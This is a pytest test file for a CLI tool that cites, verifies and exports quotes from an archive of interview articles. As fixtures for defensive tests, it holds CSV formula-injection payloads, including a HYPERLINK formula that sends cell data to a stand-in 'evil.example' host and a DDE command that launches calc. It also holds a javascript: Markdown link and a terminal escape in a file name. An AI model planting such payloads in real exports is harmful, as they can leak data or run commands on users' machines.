"""Citations, verify, export, stats, the pager and completion."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
import typer
from hypothesis import given, settings
from hypothesis import strategies as st

from deeply_cli import render
from deeply_cli.cli.common import complete_slug, complete_speaker
from deeply_cli.text import markdown_text
from tests.conftest import REPO, Invoke

SLUG = "as-isis-looks-deeper-into-deir-ezzor-nusra-remains-formidable-opponent"
TITLE = "As ISIS Looks Deeper into Deir Ezzor, Nusra Remains Formidable Opponent"
DATED = """\
---
title: Harbour Talk
authors: [Ann Writer, Bo Reporter]
published: 2016-03-08
url: https://example.org/harbour
publication: Water Deeply
speakers:
  - {name: Jane Doe, role: harbour master}
---

Water Deeply: What comes in?

Jane Doe: Ships and [more] ships.
"""


def test_cite_text_has_every_field(invoke: Invoke, archive: Path) -> None:
    (archive / "harbour.md").write_text(DATED, encoding="utf-8")
    out = invoke("quotes", "--speaker", "Jane Doe", "--cite").stdout
    assert out == (
        "“Ships and [more] ships.”\n— Jane Doe, harbour master. “Harbour Talk”, Water Deeply, "
        "by Ann Writer, Bo Reporter, 2016-03-08, paragraph 2, https://example.org/harbour.\n"
    )


def test_cite_no_date_is_nd(invoke: Invoke) -> None:
    out = invoke("quotes", "--speaker", "Bonsey", "--cite").stdout
    assert (
        out.count("— Noah Bonsey, senior Syria analyst with the International Crisis Group.") == 4
    )
    assert out.count(f"“{TITLE}”, Syria Deeply, by Karen Leigh, n.d., paragraph ") == 4


def test_cite_csv_and_json(invoke: Invoke, archive: Path) -> None:
    (archive / "harbour.md").write_text(DATED, encoding="utf-8")
    rows = list(
        csv.DictReader(
            io.StringIO(invoke("quotes", "--speaker", "Doe", "--cite", "--format", "csv").stdout)
        )
    )
    assert rows == [
        {
            "quote": "Ships and [more] ships.", "speaker": "Jane Doe", "role": "harbour master",
            "question": "What comes in?", "title": "Harbour Talk", "slug": "harbour-talk",
            "publication": "Water Deeply", "authors": "Ann Writer, Bo Reporter",
            "published": "2016-03-08", "url": "https://example.org/harbour", "paragraph": "2",
        }
    ]  # fmt: skip
    data = json.loads(invoke("show", "as-isis", "--cite", "--format", "json").stdout)
    assert len(data) == 8
    assert [d["paragraph"] for d in data] == sorted(d["paragraph"] for d in data)
    assert {d["published"] for d in data} == {"n.d."}
    assert data[0]["quote"].startswith("You’re going to see [these] groups [alternately]")


HOSTILE_CSV = """\
---
title: "@SUM(1+1)*cmd|' /C calc'!A0"
authors: [Ann Writer]
publication: +Water Deeply
speakers:
  - {name: Jane Doe, role: "-2+3 harbour master"}
---

Water Deeply: =HYPERLINK("http://evil.example/?"&A1, "What comes in?")

Jane Doe: =1+2 ships.

And -more- ships, +plain = text.
"""


def test_csv_cells_a_spreadsheet_would_run_are_text(invoke: Invoke, archive: Path) -> None:
    """A cell that starts as a formula does (`=`, `+`, `-`, `@`, tab, CR) gets a leading `'`,
    as OWASP advises against CSV injection; every other cell is as written."""
    (archive / "harbour.md").write_text(HOSTILE_CSV, encoding="utf-8")
    cite = invoke("quotes", "--speaker", "Doe", "--cite", "--format", "csv")
    [row] = list(csv.DictReader(io.StringIO(cite.stdout)))
    assert row["quote"] == "'=1+2 ships.\n\nAnd -more- ships, +plain = text."
    assert row["question"] == '\'=HYPERLINK("http://evil.example/?"&A1, "What comes in?")'
    assert row["role"] == "'-2+3 harbour master"
    assert row["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["publication"] == "'+Water Deeply"
    assert (row["speaker"], row["authors"], row["paragraph"]) == ("Jane Doe", "Ann Writer", "2")
    rows = list(csv.DictReader(io.StringIO(invoke("export", "--format", "csv").stdout)))
    doe = [r for r in rows if r["speaker"] == "Jane Doe"]
    assert [r["text"][:3] for r in doe] == ["'=1"]
    assert doe[0]["question"].startswith("'=HYPERLINK(") and doe[0]["role"].startswith("'-2")
    assert {r["title"][:2] for r in rows if r["slug"] != SLUG} == {"'@"}
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if v)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_spreadsheet_cell_guards_each_formula_start(start: str) -> None:
    from deeply_cli.text import spreadsheet_cell

    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_cell(f"x{start}1") == f"x{start}1" and spreadsheet_cell("") == ""
    assert spreadsheet_cell(-3) == -3  # a number deeply wrote is no formula


def test_cite_with_json_is_only_json(invoke: Invoke) -> None:
    want = json.loads(invoke("quotes", "--speaker", "Bonsey", "--cite", "--format", "json").stdout)
    got = invoke("quotes", "--speaker", "Bonsey", "--cite", "--json")
    assert got.exit_code == 0 and json.loads(got.stdout) == want
    clash = invoke("show", "as-isis", "--cite", "--format", "md", "--json")
    assert clash.exit_code == 2 and "leave out --format md" in clash.stderr


@pytest.mark.parametrize("command", [["quotes", "--speaker", "Bonsey"], ["show", "as-isis"]])
def test_a_citation_format_without_cite_is_refused(invoke: Invoke, command: list[str]) -> None:
    """`--format csv > quotes.csv` without --cite would quietly write the text layout."""
    result = invoke(*command, "--format", "csv")
    assert result.exit_code == 2 and result.stdout == ""
    assert "--format csv is a citation format: add --cite" in result.stderr
    assert invoke(*command, "--format", "text").exit_code == 0


def test_cite_markdown_for_one_speaker_of_an_article(invoke: Invoke) -> None:
    out = invoke("show", "as-isis", "--speaker", "Abouzeid", "--cite", "--format", "md").stdout
    assert out.count("— **Rania Abouzeid**, a journalist who writes about Syria’s extremists") == 2
    assert out.startswith("> The battlefield on the rebel side")
    assert "\n>\n> ISIS has been drawing fighters" in out


def test_verify_exact(invoke: Invoke) -> None:
    result = invoke("verify", "LET'S not forget that   their roots are not dissimilar", "--json")
    assert result.exit_code == 0
    [first, *_] = json.loads(result.stdout)
    assert first["exact"] and first["closeness"] == 1.0
    assert (first["speaker"], first["slug"], first["paragraph"]) == ("Aram Nerguizian", SLUG, 7)
    assert "their roots are not dissimilar" in first["text"]


def test_verify_ellipsis_is_exact(invoke: Invoke) -> None:
    result = invoke("verify", "ISIS has been drawing fighters … since ISIS was announced", "--json")
    [first, *_] = json.loads(result.stdout)
    assert first["exact"] and first["speaker"] == "Rania Abouzeid" and first["paragraph"] == 13


def test_verify_near(invoke: Invoke) -> None:
    result = invoke("verify", "Let’s not forget that their roots are quite dissimilar", "--json")
    assert result.exit_code == 0
    [first, *_] = json.loads(result.stdout)
    assert not first["exact"] and 0.75 <= first["closeness"] < 1
    assert first["speaker"] == "Aram Nerguizian"
    assert (
        "% close"
        in invoke("verify", "Let’s not forget that their roots are quite dissimilar").stdout
    )


def test_verify_none(invoke: Invoke) -> None:
    result = invoke("verify", "The harbour froze over in the winter of 1812")
    assert result.exit_code == 1
    assert result.stdout == "no source found: nothing in the archive is close to this quote\n"
    assert json.loads(invoke("verify", "The harbour froze over", "--json").stdout) == []


def test_export_formats_read_back(invoke: Invoke, tmp_path: Path) -> None:
    lines = invoke("export").stdout.splitlines()
    turns = [json.loads(line) for line in lines]
    assert len(turns) == 13
    assert sum(t["is_question"] for t in turns) == 5
    assert {t["speaker"] for t in turns if not t["is_question"]} == {
        "Aram Nerguizian", "Noah Bonsey", "Rania Abouzeid",
    }  # fmt: skip
    articles = json.loads(invoke("export", "--format", "json").stdout)
    assert [a["slug"] for a in articles] == [SLUG]
    assert sum(len(ex["answers"]) for ex in articles[0]["exchanges"]) == 8
    rows = list(csv.DictReader(io.StringIO(invoke("export", "--format", "csv").stdout)))
    assert [r["text"] for r in rows] == [t["text"] for t in turns]
    md = invoke("export", "--format", "md").stdout
    assert md.startswith(f"# {TITLE}\n") and md.count("**Noah Bonsey:**") == 4


def test_export_to_dash_is_stdout(invoke: Invoke, tmp_path: Path) -> None:
    result = invoke("export", "-o", "-")
    assert result.exit_code == 0 and result.stdout == invoke("export").stdout
    assert not (tmp_path / "-").exists()
    assert invoke("export", "--format", "sqlite", "-o", "-").exit_code == 2


def test_export_filters(invoke: Invoke) -> None:
    bonsey = [json.loads(x) for x in invoke("export", "--speaker", "bonsey").stdout.splitlines()]
    assert len(bonsey) == 4 and {t["speaker"] for t in bonsey} == {"Noah Bonsey"}
    found = [json.loads(x) for x in invoke("export", "--search", "Deir Ezzor").stdout.splitlines()]
    assert len(found) == 3
    assert invoke("export", "--article", "nope").exit_code == 1


@pytest.mark.parametrize("filters", [["--speaker", "bonsey"], ["--search", "Abu Kamel"]])
def test_a_json_export_keeps_the_question_each_answer_answers(
    invoke: Invoke, filters: list[str]
) -> None:
    """A null question would say none was asked; each row of jsonl names it too."""
    [article] = json.loads(invoke("export", "--format", "json", *filters).stdout)
    rows = [json.loads(x) for x in invoke("export", *filters).stdout.splitlines()]
    asked = [ex["question"]["paragraphs"] for ex in article["exchanges"]]
    assert ["\n\n".join(q) for q in asked] == [r["question"] for r in rows]
    assert [a["speaker"] for ex in article["exchanges"] for a in ex["answers"]] == [
        r["speaker"] for r in rows
    ]


@pytest.mark.parametrize(
    "filters",
    [["--search", "nowhereword"], ["--search", "Bonsey", "--speaker", "Abouzeid"]],
)
def test_export_of_nothing_is_an_error(invoke: Invoke, tmp_path: Path, filters: list[str]) -> None:
    """Filters that leave no turn exit 1, as a search without hits does, and write no file."""
    out = tmp_path / "out.csv"
    for target in ([], ["-o", str(out)]):
        result = invoke("export", "--format", "csv", *filters, *target)
        assert result.exit_code == 1, result.output
        assert result.stdout == ""
        assert "no turn matches the filters; nothing exported" in result.stderr
    assert not out.exists()


def test_export_sqlite_matches_search(invoke: Invoke, tmp_path: Path) -> None:
    db = tmp_path / "archive.db"
    result = invoke("export", "--format", "sqlite", "-o", str(db))
    assert result.exit_code == 0, result.output
    assert result.stderr == f"wrote 13 turns from 1 articles to {db}\n"
    conn = sqlite3.connect(db)
    rows = conn.execute(
        "SELECT speaker, exchange FROM turns WHERE id IN"
        " (SELECT rowid FROM turns_fts WHERE turns_fts MATCH 'Nusra') ORDER BY id"
    ).fetchall()
    hits = json.loads(invoke("search", "Nusra", "--limit", "0", "--json").stdout)
    assert sorted(rows) == sorted((h["speaker"], h["exchange"]) for h in hits)
    assert conn.execute("SELECT count(*) FROM articles").fetchone() == (1,)
    assert conn.execute("SELECT count(*) FROM speakers").fetchone() == (3,)
    again = invoke("export", "--format", "sqlite", "-o", str(db))
    assert again.exit_code == 1 and "already exists (use --force to overwrite)" in again.stderr
    assert invoke("export", "--format", "sqlite", "-o", str(db), "--force").exit_code == 0
    assert invoke("export", "--format", "sqlite").exit_code == 2
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_the_export_s_file_name_is_told_in_one_line_and_no_escape(
    invoke: Invoke, tmp_path: Path
) -> None:
    out = tmp_path / "a\nb\x1b[2J.jsonl"
    result = invoke("export", "-o", str(out))
    assert result.exit_code == 0 and out.exists()
    told = str(out).replace("\n", "\u240a").replace("\x1b", "\u241b")
    assert result.stderr == f"wrote 13 turns from 1 articles to {told}\n"


@pytest.mark.parametrize("fmt", ["sqlite", "csv"])
def test_an_export_that_would_be_refused_is_refused_before_it_is_built(
    invoke: Invoke, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    """A second `export -o archive.db` says at once that the file exists, rather than after
    reading the whole archive again."""
    from deeply_cli import export

    def never(*args: object, **kwargs: object) -> str:
        raise AssertionError("built")

    monkeypatch.setattr(export, "to_sqlite", never)
    monkeypatch.setattr(export, "text_export", never)
    out = tmp_path / "archive.db"
    out.write_text("mine\n", encoding="utf-8")
    result = invoke("export", "--format", fmt, "-o", str(out))
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
    assert result.stderr == f"deeply: error: {out}: already exists (use --force to overwrite)\n"
    assert out.read_text(encoding="utf-8") == "mine\n"


def test_a_full_disk_under_a_sqlite_export_names_the_export(
    invoke: Invoke, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """SQLite's own "disk is full" while the database is built is about -o FILE, not the
    index: one line naming the file, and neither it nor a temporary file is left."""
    from deeply_cli import export

    # A database allowed no page past its schema fills as the first rows go in.
    monkeypatch.setattr(
        export, "_SQLITE_SCHEMA", export._SQLITE_SCHEMA + "PRAGMA max_page_count = 12;"
    )
    out = tmp_path / "out" / "archive.db"
    out.parent.mkdir()
    result = invoke("export", "--format", "sqlite", "-o", str(out))
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit)
    assert result.stderr.splitlines()[-1] == (
        f"deeply: error: {out}: cannot write (database or disk is full)"
    )
    assert list(out.parent.iterdir()) == []


def test_stats_match_the_parse(invoke: Invoke, archive: Path) -> None:
    (archive / "harbour.md").write_text(DATED, encoding="utf-8")
    data = json.loads(invoke("stats", "--json").stdout)
    assert (data["articles"], data["questions"], data["answers"]) == (2, 6, 9)
    assert data["years"] == {"2016": 1} and data["undated"] == 1
    by_name = {s["name"]: s for s in data["speakers"]}
    assert by_name["Noah Bonsey"]["answers"] == 4 and by_name["Jane Doe"]["words"] == 4
    assert data["speakers"][0]["name"] == "Noah Bonsey"
    one = json.loads(invoke("stats", "harbour", "--json").stdout)
    assert one["speakers"] == [{"name": "Jane Doe", "answers": 1, "words": 4, "articles": 1}]
    text = invoke("stats", "--width", "100").stdout
    assert "Answers per speaker" in text and "Articles per year" in text
    assert "Noah Bonsey     ████████████████████████████████████████ 4" in text


@pytest.mark.parametrize("width", ["40", "50", "61", "100"])
def test_bars_keep_their_proportions_on_a_narrow_terminal(invoke: Invoke, width: str) -> None:
    """The bars shrink to fit: the longest is never cut short, to look like the next one."""
    out = invoke("stats", "--width", width).stdout
    assert "…" not in out and max(map(len, out.splitlines())) <= int(width)
    lines = out.split("Answers per speaker\n")[1].splitlines()
    bars = {
        line.split("█")[0].strip(): (line.count("█"), int(line.split()[-1])) for line in lines[:3]
    }
    (top, four), (aram, two) = bars["Noah Bonsey"], bars["Aram Nerguizian"]
    assert (four, two) == (4, 2) and top >= 10 and abs(top - 2 * aram) <= 1, out


def test_pager_command_order() -> None:
    assert render.pager_command({"DEEPLY_PAGER": "most -s", "PAGER": "more"}) == ["most", "-s"]
    assert render.pager_command({"PAGER": "more"}) == ["more"]
    assert render.pager_command({"PAGER": " "}) == ["less", "-RFK"]
    assert render.pager_command({"PAGER": "less '"}) == []  # an unclosed quote: no pager
    assert not render.run_pager("x", [])


def test_pager_is_fed_the_output(tmp_path: Path) -> None:
    target = tmp_path / "paged.txt"
    fake = [sys.executable, "-c", f"import sys; open({str(target)!r}, 'w').write(sys.stdin.read())"]
    assert render.run_pager("line one\nline two\n", fake)
    assert target.read_text() == "line one\nline two\n"
    assert not render.run_pager("x", [str(tmp_path / "no-such-pager")])
    assert not render.run_pager("x", [sys.executable, "-c", "raise SystemExit(1)"])  # it failed
    long = "line\n" * 100_000  # more than a pipe holds: the pager's end must not hang deeply
    assert not render.run_pager(long, [sys.executable, "-c", "raise SystemExit(1)"])


def test_a_pager_that_read_everything_is_not_followed_by_the_output(tmp_path: Path) -> None:
    """A pager that showed the output and then exited non-zero (`less -K` quit with Ctrl-C)
    must not have it printed a second time."""
    shown = [sys.executable, "-c", "import sys; sys.stdout.write(sys.stdin.read()); sys.exit(2)"]
    for output in ("line one\n", "line\n" * 100_000):
        assert render.run_pager(output, shown)
    half = [sys.executable, "-c", "import sys; sys.stdin.read(10); sys.exit(1)"]
    assert not render.run_pager("line\n" * 100_000, half)  # it stopped reading: print it


def test_a_pager_that_never_read_is_followed_by_the_output(tmp_path: Path) -> None:
    """A pager that ends at once without reading (`PAGER="less -x"`: less names the bad
    option and exits 0) has shown nothing: deeply prints the output itself."""
    script = tmp_path / "bad-pager"
    script.write_text("#!/bin/sh\necho 'bad-pager: bad option' >&2\nexit $1\n")
    script.chmod(0o755)
    for status in ("0", "1"):
        for output in ("line one\n", "line\n" * 100_000):
            assert not render.run_pager(output, [str(script), status])
    quit_early = [sys.executable, "-c", "import sys; sys.stdin.read(10)"]  # `q` on page one
    assert render.run_pager("line\n" * 100_000, quit_early)


def test_show_on_a_terminal_prints_what_a_broken_pager_did_not_take(tmp_path: Path) -> None:
    """`deeply show` on a pseudo-terminal with a pager that fails at once or does not exist:
    the article is on the screen, the pager's own complaint too."""
    import pty

    script = tmp_path / "bad-pager"
    script.write_text("#!/bin/sh\necho 'bad-pager: bad option' >&2\n")
    script.chmod(0o755)
    for pager, complaint in ((str(script), b"bad-pager: bad option"), ("no-such-pager", b"")):
        primary, secondary = pty.openpty()
        env = {**os.environ, "PAGER": pager, "TERM": "xterm", "LINES": "5", "COLUMNS": "100"}
        env.pop("DEEPLY_PAGER", None)
        code = "from deeply_cli.launch import main; main()"
        child = subprocess.Popen(
            [sys.executable, "-c", code, "show", "as-isis"],
            stdin=secondary, stdout=secondary, stderr=secondary, env=env, cwd=REPO,
        )  # fmt: skip
        os.close(secondary)
        seen = b""
        while True:
            try:
                chunk = os.read(primary, 1 << 16)
            except OSError:  # the child ended: the terminal has nothing more
                break
            if not chunk:
                break
            seen += chunk
        os.close(primary)
        assert child.wait(timeout=60) == 0
        assert b"Noah Bonsey" in seen and b"Aram Nerguizian" in seen
        assert complaint in seen


def test_ctrl_c_while_paging_is_the_pager_s(tmp_path: Path) -> None:
    """Ctrl-C reaches deeply and the pager alike: deeply waits for the pager (killing it would
    leave the terminal without echo), and ends as interrupted only when the pager did not
    end normally."""
    import signal

    class Interrupted(Exception):
        pass

    def interrupted(signum: int, frame: object) -> None:
        raise Interrupted

    done = tmp_path / "done"
    poke = "import os, signal, sys, time; os.kill(os.getppid(), signal.SIGINT); time.sleep(0.3)"
    stays = [sys.executable, "-c", f"{poke}; sys.stdin.read(); open({str(done)!r}, 'w')"]
    quits = [sys.executable, "-c", f"{poke}; sys.exit(2)"]  # as `less -K` does
    previous = signal.signal(signal.SIGINT, interrupted)
    try:
        assert render.run_pager("line\n" * 1000, stays)
        assert done.exists()  # the pager was left to finish
        with pytest.raises(Interrupted):
            render.run_pager("line\n" * 1000, quits)  # and nothing printed after it
    finally:
        signal.signal(signal.SIGINT, previous)


def test_pager_only_on_a_terminal(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    calls: list[str] = []
    monkeypatch.setattr(render, "run_pager", lambda output, *_: calls.append(output) or True)
    long = render.text("\n".join(f"line {i}" for i in range(500)))
    render.show(long, width=80, page=True, env={})  # stdout is not a terminal here
    assert calls == []
    monkeypatch.setattr(
        render, "make_console", lambda **kw: render.Console(force_terminal=True, height=20, **kw)
    )
    render.show(long, width=80, page=False, env={})
    assert calls == []
    render.show(long, width=80, page=True, env={})
    assert len(calls) == 1 and "line 499" in calls[0]
    render.show(long, width=80, page=True, env={"TERM": "dumb"})  # Emacs' shell: no pager
    assert len(calls) == 1


def test_less_is_told_to_show_colours_unless_the_user_says_otherwise(tmp_path: Path) -> None:
    target = tmp_path / "less.txt"
    fake = [
        sys.executable,
        "-c",
        f"import os, sys; sys.stdin.read(); open({str(target)!r}, 'w').write(os.environ['LESS'])",
    ]
    assert render.run_pager("x\n", fake, {"PATH": os.environ.get("PATH", "")})
    assert target.read_text() == "FRX"
    assert render.run_pager("x\n", fake, {"LESS": "-S"})
    assert target.read_text() == "-S"


def test_completion_callbacks(archive: Path) -> None:
    from typer.main import get_command

    from deeply_cli.cli import app

    command = get_command(app)
    ctx = command.make_context(
        "deeply", ["--archive", str(archive), "show", "x"], resilient_parsing=True
    )
    typer_ctx = typer.Context(command, parent=ctx, info_name="show")
    assert complete_slug(typer_ctx, "as-i") == [SLUG]
    assert complete_slug(typer_ctx, "zz") == []
    assert complete_slug(typer_ctx, "As-i") == ["As-" + SLUG[3:]]  # as typed, for Typer
    assert complete_speaker(typer_ctx, "bon") == ["bonsey"]  # a surname: --speaker takes it
    assert complete_speaker(typer_ctx, "Noah") == ["Noah Bonsey"]
    assert complete_speaker(typer_ctx, "") == ["Aram Nerguizian", "Noah Bonsey", "Rania Abouzeid"]


@pytest.mark.parametrize(
    ("words", "offered"),
    [
        ("deeply quotes --speaker Bon", "Bonsey"),
        ("deeply quotes --speaker bon", "bonsey"),
        ("deeply quotes --speaker Noah", "Noah\\ Bonsey"),  # one word on bash's command line
        ("deeply show As", "As-" + SLUG[3:]),
    ],
)
def test_bash_completion_offers_what_the_shell_can_use(
    archive: Path, tmp_path: Path, words: str, offered: str
) -> None:
    """Through Typer and its bash protocol, as the shell asks: Typer drops what does not
    start with the typed word, and bash inserts what it gets unquoted."""
    script = Path(sys.executable).with_name("deeply")  # installed with the package
    env = {
        **os.environ,
        "DEEPLY_ARCHIVE": str(archive),
        "DEEPLY_CACHE_DIR": str(tmp_path / "cache"),
        "_DEEPLY_COMPLETE": "complete_bash",
        "COMP_WORDS": words,
        "COMP_CWORD": str(len(words.split()) - 1),
    }
    done = subprocess.run([str(script)], env=env, capture_output=True, text=True, timeout=120)
    assert done.stdout.splitlines() == [offered], done.stderr


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_export_is_json_on_an_output_that_is_not_unicode(tmp_path: Path, fmt: str) -> None:
    folder = tmp_path / "a"
    folder.mkdir()
    (folder / "a.txt").write_text(
        "Café Talk\n\nWritten by Ann Writer\n\nSyria Deeply: Why?\n\nJosé Doe: Café 😀.\n",
        encoding="utf-8",
    )
    env = {**os.environ, "PYTHONIOENCODING": "ascii", "DEEPLY_CACHE_DIR": str(tmp_path / "c")}
    command = [sys.executable, "-m", "deeply_cli", "--archive", str(folder), "export"]
    done = subprocess.run([*command, "--format", fmt], env=env, capture_output=True, timeout=120)
    assert done.returncode == 0, done.stderr
    text = done.stdout.decode("ascii")
    rows = json.loads(text) if fmt == "json" else [json.loads(line) for line in text.splitlines()]
    assert "Café 😀." in json.dumps(rows, ensure_ascii=False)


_MD_UNESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")  # CommonMark: a backslash before punctuation


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_markdown_escaping_loses_nothing(value: str) -> None:
    assert _MD_UNESCAPE.sub(r"\1", markdown_text(value)) == value


def test_markdown_exports_show_the_article_s_text_not_markup(
    invoke: Invoke, tmp_path: Path
) -> None:
    folder = tmp_path / "a"
    folder.mkdir()
    (folder / "a.txt").write_text(
        "The *Real* Story\n\nWritten by Ann Writer\n\nSyria Deeply: Why?\n\n"
        "Jane Doe: [click](javascript:alert(1)) and [these] words.\n\n"
        "1986. A great year.\n\n* not a bullet\n",
        encoding="utf-8",
    )
    md = invoke("export", "--format", "md", folder=folder).stdout
    assert md.startswith("# The \\*Real\\* Story\n")
    assert "**Jane Doe:** [click\\](javascript:alert(1)) and [these] words." in md
    assert "\n\n1986\\. A great year.\n\n\\* not a bullet\n" in md
    cited = invoke("quotes", "--speaker", "Doe", "--cite", "--format", "md", folder=folder).stdout
    assert cited.startswith("> [click\\](javascript:alert(1)) and [these] words.\n>\n> 1986\\. A")
    assert "*The \\*Real\\* Story*" in cited


def test_citing_a_page_of_many_speakers_takes_one_pass(invoke: Invoke, tmp_path: Path) -> None:
    """show --cite looked through the whole page once per speaker: seconds for a page of
    8,000 speakers (a round-up, a petition's signatories). The citations are the same."""
    import signal

    folder = tmp_path / "many"
    folder.mkdir()
    turns = "".join(f"Syria Deeply: Q{i}?\n\nPerson{i} Name{i}: A{i}.\n\n" for i in range(8000))
    (folder / "many.txt").write_text(f"Many\n\nWritten by Ann Writer\n\n{turns}", encoding="utf-8")
    assert invoke("index", folder=folder).exit_code == 0

    def too_slow(signum: int, frame: object) -> None:
        raise TimeoutError("show --cite took over 4 s")

    previous = signal.signal(signal.SIGALRM, too_slow)
    signal.alarm(4)
    try:
        result = invoke("show", "many", "--cite", "--json", folder=folder)
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    cited = json.loads(result.stdout)
    assert [(c["speaker"], c["quote"]) for c in cited[:2]] == [
        ("Person0 Name0", "A0."),
        ("Person1 Name1", "A1."),
    ]
    assert len(cited) == 8000 and [c["paragraph"] for c in cited] == list(range(2, 16002, 2))
